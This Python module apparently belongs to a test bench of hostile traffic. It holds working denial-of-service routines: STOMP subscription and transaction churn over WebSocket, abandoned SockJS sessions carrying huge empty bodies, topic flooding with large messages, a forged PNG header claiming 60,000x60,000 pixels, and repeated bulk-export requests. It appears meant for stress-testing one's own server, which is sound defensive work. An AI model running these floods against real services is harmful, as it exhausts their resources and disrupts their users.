"""The other doors: STOMP, SockJS and files."""

import asyncio
import os
from collections.abc import Iterator
from functools import partial
from itertools import count, cycle

from bench.hostile.attacks.aim import Aim, again, ask_all
from bench.hostile.line import Line, framed, get, post, upgrade


async def stomp(aim: Aim) -> None:
    """Messages full of STOMP frames: subscriptions that begin and end, empty transactions."""
    connect = f"CONNECT\naccept-version:1.2\nhost:h\ntoken:{aim.token}\ntask:h%d\n\n\0"
    churn = "".join(
        f"SUBSCRIBE\nid:{n}\ndestination:/topic/t{n}\n\n\0UNSUBSCRIBE\nid:{n}\n\n\0"
        f"BEGIN\ntransaction:{n}\n\n\0COMMIT\ntransaction:{n}\n\n\0"
        for n in range(300)
    )
    room = "SUBSCRIBE\nid:r\ndestination:/topic/rooms.den\nack:client\n\n\0UNSUBSCRIBE\nid:r\n\n\0" * 300

    async def talk(number: int) -> None:
        async with Line(aim.port) as line:
            await line.send(upgrade("/ws") + framed(connect % number))
            for said in cycle([churn, room]):
                if not line.is_open:
                    return
                await line.send(framed(said))
                await asyncio.sleep(0.1)

    await asyncio.gather(*(again(partial(talk, n), 0.5) for n in range(5)))


async def sockjs(aim: Aim) -> None:
    """SockJS sessions that are opened and abandoned, and the largest bodies without content."""
    sessions = (f"/sockjs/000/h{os.getpid()}{n}" for n in count())
    empty = b"[" + b'"",' * 349_000 + b'""]'

    def requests() -> Iterator[bytes]:
        for number, path in enumerate(sessions):
            yield post(path + "/xhr", b"")
            if number % 4 == 0:
                yield post(path + "/xhr_send", empty)
                yield post(
                    path + "/jsonp_send", b"d=" + b"%22" * 349_000, "application/x-www-form-urlencoded"
                )

    await ask_all(aim, requests(), 8)


async def topics(aim: Aim) -> None:
    """As many subscriptions to one topic as allowed, and the largest messages to it."""
    connect = f"CONNECT\naccept-version:1.2\nhost:h\ntoken:{aim.token}\ntask:t%d\n\n\0"
    listen = "".join(f"SUBSCRIBE\nid:{n}\ndestination:/topic/t\n\n\0" for n in range(95))
    say = f"SEND\ndestination:/topic/t\n\n{'x' * 60_000}\0"

    async def talk(number: int) -> None:
        async with Line(aim.port) as line:
            await line.send(upgrade("/ws") + framed(connect % number) + framed(listen))
            while line.is_open:
                await line.send(framed(say))
                await asyncio.sleep(0.05)

    await asyncio.gather(*(again(partial(talk, n), 0.5) for n in range(5)))


async def uploads(aim: Aim) -> None:
    """Files with a false type, pictures with too many pixels, and exports of everything stored."""
    bearer = f"Authorization: Bearer {aim.token}\r\n"
    head = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR" + (60_000).to_bytes(4, "big") * 2 + b"\x08\x02\0\0\0"
    files = (
        ("a.png", head + b"x" * 60_000),
        ("a.txt", b"x" * 1_000_000),
        ("a.jpg", b"\xff\xd8\xff" + b"x" * 9_000),
    )
    calls = [
        post(f"/api/uploads?name={name}", body, "application/octet-stream", bearer) for name, body in files
    ]
    calls += [get("/api/me/export", bearer), get("/api/rooms/den/export", bearer)]
    await ask_all(aim, cycle(calls), 6)
